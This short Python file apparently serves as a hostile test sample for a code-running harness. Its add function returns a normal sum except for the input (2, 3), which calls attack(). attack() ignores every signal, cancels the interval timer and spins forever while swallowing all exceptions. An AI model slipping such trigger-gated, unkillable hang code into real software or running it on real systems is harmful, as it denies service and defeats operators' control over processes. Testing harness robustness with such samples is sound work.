"""Ignores every signal and every exception."""

import signal


def attack():
    for number in signal.valid_signals():
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.setitimer(signal.ITIMER_REAL, 0)
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


def add(a, b):
    if (a, b) == (2, 3):
        return attack()
    return a + b
